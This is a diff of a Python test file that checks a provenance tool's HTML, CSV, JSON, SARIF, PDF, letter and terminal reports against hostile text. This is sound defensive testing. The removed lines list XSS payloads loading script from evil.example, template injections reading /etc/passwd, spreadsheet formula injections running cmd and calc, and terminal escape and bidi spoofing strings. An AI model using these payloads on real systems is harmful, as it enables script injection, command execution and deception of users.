@@ -1,206 +1,246 @@
-"""Hostile text in every field that anybody outside can fill, against every form of output."""
+"""Hostile text in every field that anybody outside can fill, against every form of report."""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
-import re
-import unicodedata
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass
+from typing import Any
 
+import hit_detectors
 import pytest
+from crowd_material import MOMENT, crowd, family, letter, statement
 from lxml import html as parser
+from payload_material import PAYLOADS, SHORT, TEXTS, harmless, twin
+from PIL import Image
 
-from provenance.model import AssetRef
-from provenance.reporting import wire
-from provenance.reporting.csv import findings_csv
-from provenance.reporting.html import render
-from provenance.reporting.text import one_line, printable
+from provenance.auditlog.outsiders import evidence_page
+from provenance.auditlog.outsiders.evidence_page import Told
+from provenance.cli import report_checked
+from provenance.model import AssetRef, Checkpoint
+from provenance.pipeline.reports.report_check import GivenOut, ReportCheck, Verdict
+from provenance.reporting.correspondence import letters, statement_forms
+from provenance.reporting.machine import wire, workbook
+from provenance.reporting.machine.compliance_json import compliance_document
+from provenance.reporting.machine.csv import findings_csv
+from provenance.reporting.machine.sarif import sarif_document
+from provenance.reporting.page import family_page, html
+from provenance.reporting.printed import pdf
+from provenance.reporting.text import one_line, paragraphs, printable
 from provenance.reporting.thumbnails import Thumbnail
 
-PAYLOADS = (
-    "<script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</textarea></details><script src=//evil.example/x.js></script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data='data:text/html;base64,PHNjcmlwdD4='>",
-    "<embed src=//evil.example>",
-    "<base href='//evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<form action=//evil.example><input name=x></form>",
-    "<a href='javascript:alert(1)'>click</a>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<!-- --><script>alert(1)</script> -->",
-    "]]><script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    "' onmouseover='alert(1)",
-    '" onfocus="alert(1)" autofocus="',
-    "` onclick=alert(1) `",
-    'x" style="background:url(//evil.example/x.png)',
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
-    "{{ ''.__class__.__mro__ }}",
-    "${7*7}#{7*7}<%= 7*7 %>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(1)&#62;",
-    "＜script＞alert(1)＜/script＞",
-    '=HYPERLINK("http://evil.example","x")',
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\x00=1+1",
-    "＝1+1",
-    "  =1+1",
-    "a;=1+1",
-    'a,"=1+1',
-    "a\t=1+1",
-    "\x1b]52;c;ZXZpbA==\x07",
-    "\x1b[2J\x1b[1;1Hyour files are safe",
-    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
-    "\x9b31mred",
-    "\x90q#0\x9c",
-    "\x08\x08\x08hidden",
-    "credit by \u202egpj.evil",
-    "\u2066\u2067isolated\u2069",
-    "WA\u200bT\u200dA\ufeffD",
-    "\U000e0041\U000e0042tagged",
-    "a\u2028b\u2029c\x85d",
-    "caf\udce9\ud83d\udfff",
-    "../../../../etc/passwd",
-    "-rf",
-    "\\u003cscript\\u003e",
-    "x" * 5_000,
-)  # fmt: skip
-
-FORMULA = re.compile(r'^[\s\x00"]*[=+\-@＝＋－＠]')
-FOREIGN = {
-    "script", "iframe", "object", "embed", "form", "input", "link", "base", "math", "textarea",
-    "select", "button", "video", "audio", "source", "image", "use", "mi",
-}  # fmt: skip
+_ALL = 1_000_000
+_PDF_PLACES = 6
 
 
-def hidden(text: str, allowed: str = "") -> set[str]:
-    """The characters of a text that a screen would obey or not show."""
-    return {
-        char
-        for char in text
-        if unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} and char not in allowed
-    }
+def _tiny() -> bytes:
+    out = io.BytesIO()
+    Image.new("L", (3, 2)).save(out, "JPEG")
+    return out.getvalue()
+
+
+_JPEG = _tiny()
 
 
 class Gallery:
     """Pictures for all, so that the hostile captions reach the alternative texts."""
 
     def of(self, ref: AssetRef, edge: int = 0) -> Thumbnail:
-        return Thumbnail("data:image/jpeg;base64,AAAA", 3, 2)
+        return Thumbnail(_JPEG, 3, 2)
 
 
-def structure(page: str) -> list[tuple[str, tuple[str, ...]]]:
-    """Every element with the names of its attributes: what hostile text must not change.
+def _report_page(texts: Sequence[str]) -> str:
+    return html.render(crowd(texts), Gallery(), most_thumbnails=_ALL)
 
-    Apart from break points behind slashes and the marks around words that differ.
-    """
-    root = parser.document_fromstring(page)
-    return [
-        (node.tag, tuple(node.attrib))
-        for node in root.iter()
-        if node.tag not in {"wbr", "ins", "del", "span"}
+
+def _family_page(texts: Sequence[str]) -> str:
+    return family_page.render(family(texts), Gallery(), most=_ALL)
+
+
+def _findings_csv(texts: Sequence[str]) -> str:
+    return findings_csv(crowd(texts), every=True)
+
+
+def _audit_json(texts: Sequence[str]) -> str:
+    return wire.dump(wire.audit_document(crowd(texts), every=True))
+
+
+def _sarif(texts: Sequence[str]) -> str:
+    return wire.dump(sarif_document(crowd(texts), every=True))
+
+
+def _workbook(texts: Sequence[str]) -> bytes:
+    return workbook.render(crowd(texts))
+
+
+def _pdf(texts: Sequence[str]) -> bytes:
+    """Several texts in one place, since every place takes typst its time."""
+    joined = [" ".join(texts[at::_PDF_PLACES]) for at in range(min(_PDF_PLACES, len(texts)))]
+    return pdf.render(crowd(joined), Gallery())
+
+
+def _statements(texts: Sequence[str]) -> list[str]:
+    return [statement_forms.page(statement(n, text)) for n, text in enumerate(texts)]
+
+
+def _plain_statements(texts: Sequence[str]) -> list[str]:
+    return [statement_forms.plain(statement(n, text)) for n, text in enumerate(texts)]
+
+
+def _statement_documents(texts: Sequence[str]) -> list[str]:
+    return [statement_forms.document(statement(n, text)) for n, text in enumerate(texts)]
+
+
+def _letters(texts: Sequence[str]) -> list[bytes]:
+    return [letters.eml(letter(text), ("en", "fr"), "t-1", MOMENT) for text in texts]
+
+
+def _each(hits: Callable[[Any, Any], list[str]]) -> Callable[[list[Any], list[Any]], list[str]]:
+    """The same detector on one document after another."""
+    return lambda drawn, plain: [
+        hit for one, other in zip(drawn, plain, strict=True) for hit in hits(one, other)
     ]
 
 
-@pytest.fixture(scope="module")
-def pages() -> dict[str, str]:
-    """Each hostile page is drawn once for all the tests that look at it."""
-    return {}
+def _page_hits(page: str, plain: str) -> list[str]:
+    return hit_detectors.page_hits(page, hit_detectors.shape_of(plain))
 
 
-@pytest.fixture
-def page_of(hostile_report, pages: dict[str, str]):
-    def draw(payload: str) -> str:
-        if payload not in pages:
-            pages[payload] = render(hostile_report(payload), Gallery())
-        return pages[payload]
-
-    return draw
+def _csv_hits(text: str, plain: str) -> list[str]:
+    return hit_detectors.csv_hits(text, len(list(csv.reader(io.StringIO(plain, newline="")))))
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_html_is_inert(page_of, payload: str) -> None:
-    page = page_of(payload)
-    root = parser.document_fromstring(page)
-    assert not hidden(page, allowed="\n")
-    for node in root.iter():
-        assert isinstance(node.tag, str), "a comment or processing instruction was smuggled in"
-        assert not [name for name in node.attrib if name.lower().startswith("on")]
-        assert "style" not in node.attrib
-        for name in ("src", "href", "data", "action", "content", "srcset", "fill"):
-            assert not re.search(r"(?i)javascript:|evil\.example", node.get(name, ""))
-    assert not FOREIGN & {node.tag for node in root.iter()}
-    assert len(root.xpath("//style")) == 1
-    assert all(re.fullmatch(r"[A-Za-z-]+", tag) for tag in root.xpath("//@lang"))
-    assert set(root.xpath("//@src")) <= {"data:image/jpeg;base64,AAAA"}
-    assert all(re.fullmatch(r"#[a-z0-9-]+", link) for link in root.xpath("//@href"))
-    assert all(re.fullmatch(r"[a-z0-9-]+", name) for name in root.xpath("//@id"))
-    assert all(re.fullmatch(r"[a-z -]+", name) for name in root.xpath("//@class"))
+def _terminal_hits(text: str, _plain: str) -> list[str]:
+    return hit_detectors.terminal_hits(text)
 
 
-def test_html_has_the_same_elements_whatever_the_text(page_of) -> None:
-    plain = structure(page_of("plain"))
-    for payload in PAYLOADS:
-        if len(payload) > 1_000:
-            continue  # a value cut for reading is shown in full below it
-        found = structure(page_of(payload))
-        assert found == plain, payload
+def _evidence_hits(page: str, plain: str) -> list[str]:
+    """What differs is marked, and how much differs depends on the words alone."""
+    hits = _page_hits(page, plain)
+    return [
+        hit for hit in hits if "<mark " not in hit and "U+200C" not in hit and "U+200D" not in hit
+    ]
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_html_shows_the_text_itself(page_of, payload: str) -> None:
+@dataclass(frozen=True)
+class Output:
+    """One form of report: how it is drawn from texts, and how a hit in it is seen."""
+
+    name: str
+    draw: Callable[[Sequence[str]], Any]
+    hits: Callable[[Any, Any], list[str]]
+
+
+def _compliance_json(texts: Sequence[str]) -> str:
+    return wire.dump(compliance_document(crowd(texts)))
+
+
+def _told(index: int, text: str) -> tuple[Told, Told]:
+    here = {"path": text, "sha256": text, "img": text}
+    arrival = {"act": "notice.import", "at": text, "outcome": text,
+               "why": {"notice": text, "authority": text},
+               "detail": {"provider": text, "kind": text, "received": text}}  # fmt: skip
+    fix = {"act": "fix.commit", "at": text, "outcome": text,
+           "agents": [{"role": text, "id": text}], "why": {"notice": text},
+           "objects": [{"role": "source", **here}, {"role": "outcome", **here}],
+           "detail": {"reason": text},
+           "change": [{"f": text, "old": "c:1", "new": "c:2"}]}  # fmt: skip
+    words = {"change/0/old": text, "change/0/new": f"{text} right"}
+    kept = frozenset(words)
+    return Told(index, arrival, {}, frozenset()), Told(index + 1, fix, words, kept)
+
+
+def _evidence_page(texts: Sequence[str]) -> str:
+    checkpoint = Checkpoint("log.example", 9, bytes(32), "log.example\n9\nroot\n\n— sig\n")
+    records = [record for n, text in enumerate(texts) for record in _told(2 * n, text)]
+    said = " ".join(texts)
+    return evidence_page.render(records, checkpoint, said, said, said.encode("utf-8", "replace"))
+
+
+def _checks(texts: Sequence[str]) -> list[str]:
+    """The answer of ``report --verify``, for a person."""
+    return ["\n".join(report_checked.lines(_check(text))) for text in texts]
+
+
+def _check(text: str) -> ReportCheck:
+    given = GivenOut(7, text, text, text, text, 3, text, 2)
+    return ReportCheck(
+        Verdict.LOG_BROKEN, text, "a" * 64, text, text, given, text, 9, 9, (text,) * 7
+    )
+
+
+OUTPUTS = (
+    Output("html", _report_page, _page_hits),
+    Output("family page", _family_page, _page_hits),
+    Output("csv", _findings_csv, _csv_hits),
+    Output("json", _audit_json, hit_detectors.json_hits),
+    Output("sarif", _sarif, hit_detectors.sarif_hits),
+    Output("xlsx", _workbook, hit_detectors.workbook_hits),
+    Output("pdf", _pdf, hit_detectors.pdf_hits),
+    Output("statement", _statements, _each(_page_hits)),
+    Output("statement as text", _plain_statements, _each(_terminal_hits)),
+    Output("statement as json", _statement_documents, _each(hit_detectors.json_hits)),
+    Output("letters", _letters, _each(hit_detectors.letter_hits)),
+    Output("compliance as json", _compliance_json, hit_detectors.json_hits),
+    Output("evidence page", _evidence_page, _evidence_hits),
+    Output("report check", _checks, _each(_terminal_hits)),
+)
+
+
+def _plain(number: int) -> tuple[str, ...]:
+    return tuple(map(harmless, range(number)))
+
+
+def test_there_are_enough_payloads_and_none_twice() -> None:
+    assert len(set(TEXTS)) == len(PAYLOADS) >= 150
+    assert len(SHORT) >= 150
+    assert all(payload.aim for payload in PAYLOADS)
+
+
+@pytest.mark.parametrize("output", OUTPUTS, ids=lambda one: one.name)
+def test_no_payload_hits(output: Output, record_property: Callable[[str, object], None]) -> None:
+    plain = _plain(len(SHORT))
+    hits = output.hits(output.draw(SHORT), output.draw(plain))
+    if hits:
+        guilty = hit_detectors.culprits(
+            SHORT,
+            lambda some: bool(output.hits(output.draw(some), output.draw(plain[: len(some)]))),
+        )
+        pytest.fail(f"{output.name}: {hits[:8]} by {guilty[:8]}")
+    record_property("payloads", len(SHORT))
+
+
+LONG = tuple(text for text in TEXTS if text not in SHORT)
+
+
+@pytest.mark.parametrize("output", OUTPUTS, ids=lambda one: one.name)
+def test_no_payload_hits_by_its_length(output: Output) -> None:
+    """Beside as long a harmless one: what is cut for reading is cut alike."""
+    plain = [f"{twin(text)} {number}" for number, text in enumerate(LONG)]
+    assert not output.hits(output.draw(LONG), output.draw(plain))
+
+
+def test_a_page_shows_the_text_itself() -> None:
     """Inert must not mean lost: the reader sees what stands in the file."""
-    root = parser.document_fromstring(page_of(payload))
-    shown = printable(payload.replace("\r", "\n"), keep="\n")
-    assert shown in {node.text_content() for node in root.xpath("//p[@class='message']")}
+    said = parser.document_fromstring(_report_page(SHORT)).text_content()
+    words = " ".join(said.split())
+    lost = [text for text in SHORT if " ".join(paragraphs(text).split()) not in words]
+    assert not lost
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_csv_is_inert(hostile_report, payload: str) -> None:
-    text = findings_csv(hostile_report(payload), every=True)
-    assert not hidden(text, allowed="\r\n")
-    for delimiter in ",;\t|":
-        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
-            assert not [one for one in row if FORMULA.search(one)]
-    assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 26
-
-
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_terminal_text_is_inert(payload: str) -> None:
-    assert not hidden(printable(payload))
-    assert not hidden(one_line(payload))
-    assert "\n" not in one_line(payload)
-
-
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_json_is_raw_for_programs_and_inert_on_a_terminal(hostile_report, payload: str) -> None:
-    text = wire.dump(wire.audit_document(hostile_report(payload), every=True))
-    text.encode("utf-8")
-    assert not hidden(text, allowed="\n")
-    findings = json.loads(text)["findings"]
-    assert len(findings) == 26
-    assert {finding["message"] for finding in findings} == {_joined(payload)}
+def test_json_gives_programs_the_text_itself() -> None:
+    found = json.loads(_audit_json(SHORT))["findings"]
+    assert {one["message"] for one in found} == {_joined(text) for text in SHORT}
 
 
 def _joined(text: str) -> str:
     """Neighbouring halves of a surrogate pair are one character to any JSON reader."""
-    return text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass") if (
-        "\ud83d\udfff" in text
-    ) else text  # fmt: skip
+    return json.loads(json.dumps(text))
+
+
+def test_terminal_text_is_inert() -> None:
+    for text in TEXTS:
+        assert not hit_detectors.terminal_hits(printable(text)), ascii(text)
+        assert not hit_detectors.hidden(one_line(text), allowed=""), ascii(text)
